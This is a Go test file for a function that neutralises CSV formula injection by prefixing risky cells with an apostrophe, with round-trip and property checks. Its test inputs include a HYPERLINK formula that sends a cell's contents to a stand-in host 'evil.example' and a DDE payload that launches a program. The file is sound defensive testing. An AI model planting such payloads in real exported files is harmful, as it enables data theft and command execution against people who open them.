package csvcell

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"testing/quick"
)

func TestNeutralise(t *testing.T) {
	cases := map[string]string{
		// formulas and commands get an apostrophe
		`=HYPERLINK("http://evil.example/?"&A1,"x")`: `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
		"=1+1":               "'=1+1",
		"+1+1":               "'+1+1",
		"-1+1":               "'-1+1",
		"@SUM(A1:A2)":        "'@SUM(A1:A2)",
		"\t=1":               "'\t=1",
		"\r=1":               "'\r=1",
		"-cmd|' /C calc'!A0": "'-cmd|' /C calc'!A0",
		"-":                  "'-",
		"+":                  "'+",
		"=":                  "'=",
		"-Inf":               "'-Inf",
		"-NaN":               "'-NaN",
		"-0x10":              "'-0x10",
		"-1,000":             "'-1,000",
		"- 2":                "'- 2",
		"-2 ":                "'-2 ",
		"'=1":                "''=1", // an apostrophe of its own in front of a formula
		"''@x":               "'''@x",
		// plain numbers and ordinary text stay
		"-2":          "-2",
		"-0.5":        "-0.5",
		"+3":          "+3",
		"-.5":         "-.5",
		"-1e5":        "-1e5",
		"+2.5E-3":     "+2.5E-3",
		"0.294":       "0.294",
		"":            "",
		"Sphere 2018": "Sphere 2018",
		"12 m² tent":  "12 m² tent",
		"'quoted'":    "'quoted'",
		"' =1":        "' =1",
		"a=1":         "a=1",
		" =1":         " =1",
		"国家标准 GB/T":   "国家标准 GB/T",
		"\n=1":        "\n=1", // a line feed inside a quoted CSV field is not a command
	}
	for in, want := range cases {
		got := Neutralise(in)
		if got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
		if back := Restore(got); back != in {
			t.Errorf("Restore(Neutralise(%q)) = %q", in, back)
		}
	}
}

func TestRestoreLeavesOtherCells(t *testing.T) {
	for _, s := range []string{"=A1", "'text", "'-2", "'", "''", "plain", "-2"} {
		if got := Restore(s); got != s {
			t.Errorf("Restore(%q) = %q, want it unchanged", s, got)
		}
	}
}

// Neutralise then Restore gives back every string, and Neutralise's output
// is never risky.
func TestRoundTripProperty(t *testing.T) {
	f := func(s string) bool {
		n := Neutralise(s)
		return Restore(n) == s && !risky(n)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 20000}); err != nil {
		t.Error(err)
	}
	for _, prefix := range []string{"", "'", "''", "=", "'=", "-", "'-", "+1", "'+1"} {
		for _, rest := range []string{"", "1", "x", "=", "'", "-1", "\t", "1e3"} {
			if s := prefix + rest; !f(s) {
				t.Errorf("%q: Neutralise %q, Restore %q", s, Neutralise(s), Restore(Neutralise(s)))
			}
		}
	}
}

// Through encoding/csv, a neutralised cell reads back as written.
func TestThroughCSV(t *testing.T) {
	cells := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "-2", "\t@x", "a,b", "'=1"}
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	row := make([]string, len(cells))
	for i, c := range cells {
		row[i] = Neutralise(c)
	}
	w.Write(row)
	w.Flush()
	if strings.Contains(buf.String(), ",=") || strings.HasPrefix(buf.String(), "=") {
		t.Errorf("a cell starts with = in %q", buf.String())
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range recs[0] {
		if Restore(c) != cells[i] {
			t.Errorf("cell %d: %q back as %q", i, cells[i], Restore(c))
		}
	}
}
